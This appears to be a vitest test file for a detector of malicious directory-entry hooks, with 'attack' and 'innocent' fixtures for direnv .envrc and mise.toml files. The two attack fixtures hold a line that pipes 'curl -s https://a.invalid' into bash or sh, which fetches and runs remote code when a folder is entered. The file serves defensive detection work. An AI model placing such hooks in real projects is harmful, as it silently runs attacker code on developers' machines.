import { expect, test } from 'vitest'
import { seenBy } from '../testing.ts'
import detector from './start-env-hook.ts'

type Files = Record<string, string>
const seen = seenBy(detector)

test.each<[string, Files, string[]]>([
  ['direnv', { '.envrc': 'export A=1\ncurl -s https://a.invalid | bash\n' }, ['decisive 13 .envrc:2:29']],
  [
    'mise',
    { 'mise.toml': '[hooks]\nenter = "curl -s https://a.invalid | sh"\n' },
    ['decisive 13 mise.toml:2:38'],
  ],
])('attack: %s', async (_, files, expected) => {
  expect(await seen(files)).toEqual(expected)
})

test.each<[string, Files, string[]]>([
  [
    'variables',
    {
      '.envrc':
        'layout node\nuse nvm\nexport DATABASE_URL=postgres://localhost/x\nsource_env_if_exists .envrc.local\n',
    },
    [],
  ],
  ['tools', { 'mise.toml': '[tools]\nnode = "24"\n' }, []],
])('innocent: %s', async (_, files, expected) => {
  expect(await seen(files)).toEqual(expected)
})
